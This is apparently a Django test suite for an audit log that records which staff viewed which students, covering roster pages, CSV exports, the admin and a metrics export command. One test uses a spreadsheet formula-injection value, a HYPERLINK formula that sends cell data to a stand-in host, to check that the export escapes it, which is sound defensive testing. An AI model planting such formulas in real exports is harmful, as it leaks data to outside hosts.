"""Who saw which students (districts.audit): one audit row per response naming every student it
showed, the audit page's "who saw student X between dates" and its CSV, the Django admin, and
entries written outside a request."""

import csv
import datetime
import io
from unittest import mock

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django_scopes import scope, scopes_disabled

from districts.audit import students_seen_record
from districts.models import AuditEvent, Role
from districts.selectors import audit_event_list

from .factories import StudentFactory, UserFactory


def _events(district) -> list[AuditEvent]:
    with scope(district=district):
        return list(AuditEvent.objects.order_by("id"))


def _audit_url(tenant, **query) -> str:
    url = reverse("districts:audit_log", kwargs={"district": tenant.district.slug})
    return url + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def test_a_roster_page_writes_one_row_naming_every_student_it_lists(tenant_a, records_a, login):
    client = login(tenant_a.user(Role.DISTRICT_ADMIN))
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("outreach:roster", kwargs={"district": "alpha"}))
    assert response.status_code == 200
    inserts = [q["sql"] for q in queries.captured_queries if q["sql"].startswith('INSERT INTO "districts_auditevent"')]
    assert len(inserts) == 1
    (event,) = _events(tenant_a.district)
    expected = sorted([records_a.student.pk, records_a.other_student.pk, records_a.unenrolled.pk])
    assert (event.object_type, event.action, event.students) == ("roster", "view", expected)
    assert event.user == tenant_a.user(Role.DISTRICT_ADMIN) and event.path.startswith("/d/alpha/roster/")


def test_refused_and_missing_pages_record_nothing(tenant_a, records_a, login):
    client = login(tenant_a.user(Role.MENTOR))
    assert (
        client.get(reverse("students:student_detail", kwargs={"district": "alpha", "student_id": 0})).status_code == 404
    )
    assert client.get(reverse("districts:audit_log", kwargs={"district": "alpha"})).status_code == 403
    assert _events(tenant_a.district) == []


def test_who_saw_a_student_between_dates(tenant_a, records_a):
    student, other = records_a.student, records_a.other_student
    lead, counselor = tenant_a.user(Role.ATTENDANCE_LEAD), tenant_a.user(Role.COUNSELOR)
    with scope(district=tenant_a.district):
        students_seen_record(district=tenant_a.district, user=lead, students=[student], what="roster")
        students_seen_record(district=tenant_a.district, user=counselor, students=[student, other], what="huddle")
        students_seen_record(district=tenant_a.district, user=lead, students=[other], what="flag_list")
        saw_student = audit_event_list(student_ids=[student.pk])
        assert sorted(e.user_email for e in saw_student) == sorted([lead.email, counselor.email])
        assert [e.object_type for e in audit_event_list(student_ids=[other.pk], user_email="lead")] == ["flag_list"]
        today = timezone.localdate()
        assert audit_event_list(student_ids=[student.pk], until=today - datetime.timedelta(days=1)).count() == 0
        assert audit_event_list(student_ids=[student.pk], since=today, until=today).count() == 2


def test_the_audit_page_finds_a_student_by_sis_id_or_name_and_exports_csv(tenant_a, records_a, login):
    student, other = records_a.student, records_a.other_student
    lead = tenant_a.user(Role.ATTENDANCE_LEAD)
    with scope(district=tenant_a.district):
        students_seen_record(district=tenant_a.district, user=lead, students=[student], what="roster")
        students_seen_record(district=tenant_a.district, user=lead, students=[other], what="roster")
    client = login(tenant_a.user(Role.DISTRICT_ADMIN))
    page = client.get(_audit_url(tenant_a, student=student.sis_id)).content.decode()
    assert f"Who saw {student.full_name} ({student.sis_id})" in page and "1 entry" in page

    response = client.get(
        reverse("districts:audit_log_csv", kwargs={"district": "alpha"}) + f"?student={student.sis_id}"
    )
    assert response["Cache-Control"] == "no-store" and "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    admin = tenant_a.user(Role.DISTRICT_ADMIN).email  # the page above named the student to the admin
    assert [(row["person"], row["record_type"], row["student"]) for row in rows] == [
        (admin, "audit_log", student.audit_label),
        (lead.email, "roster", student.audit_label),
    ]
    with scopes_disabled():  # the admin's page and file named the student: both are entries too
        exports = AuditEvent.objects.filter(object_type="audit_log_csv")
        assert [e.students for e in exports] == [[student.pk]]


def test_the_audit_page_and_its_csv_keep_to_the_dates_asked(tenant_a, records_a, login):
    """'Who saw student X between these dates': the page and the file both stop at the dates."""
    student = records_a.student
    lead, counselor = tenant_a.user(Role.ATTENDANCE_LEAD), tenant_a.user(Role.COUNSELOR)
    twenty_days_ago = timezone.now() - datetime.timedelta(days=20)
    with scope(district=tenant_a.district):  # entries are append-only: the old one is written back then
        with mock.patch("django.utils.timezone.now", return_value=twenty_days_ago):
            students_seen_record(district=tenant_a.district, user=counselor, students=[student], what="huddle")
        students_seen_record(district=tenant_a.district, user=lead, students=[student], what="roster")
    today = timezone.localdate()
    query = {"student": student.sis_id, "since": today - datetime.timedelta(days=7), "until": today}
    client = login(tenant_a.user(Role.DISTRICT_ADMIN))
    page = client.get(_audit_url(tenant_a, **query)).content.decode()
    assert lead.email in page and counselor.email not in page
    csv_url = reverse("districts:audit_log_csv", kwargs={"district": "alpha"})
    rows = list(csv.DictReader(io.StringIO(b"".join(client.get(csv_url, query).streaming_content).decode())))
    people = {row["person"] for row in rows}
    assert lead.email in people and counselor.email not in people
    earlier = {**query, "since": today - datetime.timedelta(days=30), "until": today - datetime.timedelta(days=10)}
    rows = list(csv.DictReader(io.StringIO(b"".join(client.get(csv_url, earlier).streaming_content).decode())))
    assert [row["person"] for row in rows] == [counselor.email]


def test_a_name_matching_several_students_asks_which(tenant_a, records_a, login):
    with scope(district=tenant_a.district):
        twin = StudentFactory(district=tenant_a.district, last_name=records_a.student.last_name, sis_id="A-9")
    client = login(tenant_a.user(Role.DISTRICT_ADMIN))
    page = client.get(_audit_url(tenant_a, student=records_a.student.last_name)).content.decode()
    assert "2 students match" in page and f"?student_id={twin.pk}" in page
    page = client.get(_audit_url(tenant_a, student_id=twin.pk)).content.decode()
    assert f"Who saw {twin.full_name}" in page and "1 entry" in page  # the admin's own page listing both


def test_a_student_of_another_district_is_nobody_here(tenant_a, tenant_b, records_a, records_b, login):
    with scope(district=tenant_b.district):
        students_seen_record(district=tenant_b.district, user=None, students=[records_b.student], what="roster")
    client = login(tenant_a.user(Role.DISTRICT_ADMIN))
    page = client.get(_audit_url(tenant_a, student_id=records_b.student.pk)).content.decode()
    assert "0 entries" in page and records_b.student.full_name not in page


def test_a_command_export_names_the_system_account(tenant_a, records_a, login):
    with scope(district=tenant_a.district):
        event = students_seen_record(district=tenant_a.district, students=[records_a.student], what="export_metrics")
    assert event.user is None and event.detail["os_user"] and event.action == "export"
    page = login(tenant_a.user(Role.DISTRICT_ADMIN)).get(_audit_url(tenant_a)).content.decode()
    assert f"{event.detail['os_user']} (command line)" in page


def test_the_django_admin_records_the_students_it_lists_per_district(tenant_a, tenant_b, records_a, records_b, client):
    root = UserFactory(email="root@example.org", is_superuser=True, is_staff=True)
    client.force_login(root)
    assert client.get(reverse("admin:students_student_changelist")).status_code == 200
    assert client.get(reverse("admin:students_student_change", args=[records_a.student.pk])).status_code == 200
    with scopes_disabled():
        events = list(AuditEvent.objects.order_by("id"))
    by_district = {}
    for event in events:
        by_district.setdefault(event.district_id, []).append((event.object_type, event.students, event.user_email))
    a = sorted([records_a.student.pk, records_a.other_student.pk, records_a.unenrolled.pk])
    b = sorted([records_b.student.pk, records_b.other_student.pk, records_b.unenrolled.pk])
    what = "admin:students.student"
    assert by_district[tenant_a.district.pk] == [(what, a, root.email), (what, [records_a.student.pk], root.email)]
    assert by_district[tenant_b.district.pk] == [(what, b, root.email)]


def test_export_metrics_records_every_student_it_wrote_and_escapes_formulas(tenant_a, tmp_path):
    from django.core.management import call_command

    from .outreach_support import student_at

    with scope(district=tenant_a.district):
        plain = student_at(tenant_a.school, sis_id="S-100")
        formula = student_at(tenant_a.school, sis_id='=HYPERLINK("http://x.example/?"&A1)')
    out = tmp_path / "metrics.csv"
    call_command("export_metrics", district="alpha", out=str(out), stdout=io.StringIO())
    rows = list(csv.reader(out.open()))
    assert sorted(row[0] for row in rows[1:]) == sorted(["S-100", "'" + formula.sis_id])
    (event,) = _events(tenant_a.district)
    assert (event.object_type, event.action, event.user) == ("export_metrics", "export", None)
    assert event.students == sorted([plain.pk, formula.pk]) and event.detail["rows"] == 2


def test_the_import_health_page_records_the_students_it_names(tenant_a, records_a, login):
    client = login(tenant_a.user(Role.DISTRICT_ADMIN))
    page = client.get(reverse("imports:health", kwargs={"district": "alpha"})).content.decode()
    assert records_a.other_student.full_name in page  # enrolled, no guardian contact
    (event,) = _events(tenant_a.district)
    assert event.object_type == "import_health" and records_a.other_student.pk in event.students
